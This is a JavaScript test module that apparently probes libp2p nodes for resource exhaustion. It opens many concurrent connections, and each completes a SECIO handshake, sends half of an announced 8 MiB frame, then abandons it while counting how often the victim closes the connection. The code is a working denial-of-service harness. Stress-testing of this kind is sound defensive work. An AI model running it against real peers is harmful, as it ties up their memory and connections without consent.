// Peers that begin a frame of SECIO's largest size behind the handshake, send half of it, and go after a while.
import { createLibp2p, nodeDefaults } from '@weft/libp2p'
import { multiaddr } from '@weft/multiaddr'
import { secio } from '@weft/secio'
import { answer, settings } from '../lib/answer.mjs'
import { sleep } from '../lib/statistics.mjs'

const FRAME = 8 * 1024 * 1024
const HELD_MS = 100
const GIVE_UP_MS = 10_000

const half = new Uint8Array(4 + FRAME / 2)
new DataView(half.buffer).setUint32(0, FRAME)
const address = multiaddr(settings.address)
let sent = 0
let ended = 0

/** The handshake as it should be, and then half a frame: the muxer is never named. */
function halfway(components) {
  const channel = secio()(components)
  return {
    protocol: channel.protocol,
    secureInbound: (connection, options) => channel.secureInbound(connection, options),
    async secureOutbound(connection, options) {
      await channel.secureOutbound(connection, options)
      if (!connection.send(half)) await connection.onDrain({ signal: options.signal })
      sent++
      await sleep(HELD_MS)
      if (connection.status !== 'open') ended++
      throw new Error('enough')
    }
  }
}

const node = await createLibp2p({ ...nodeDefaults(), connectionEncrypters: [halfway], services: {} })

answer({
  ready() {},
  /** Sends so many half frames, some at a time. `sent`: went out whole; `ended`: of those, the victim ended these. */
  async send({ count, atOnce }) {
    let left = count
    const work = async () => {
      while (left-- > 0) {
        await node.dial(address, { force: true, signal: AbortSignal.timeout(GIVE_UP_MS) }).catch(() => {})
      }
    }
    await Promise.all(Array.from({ length: atOnce }, work))
    return { sent, ended }
  }
})
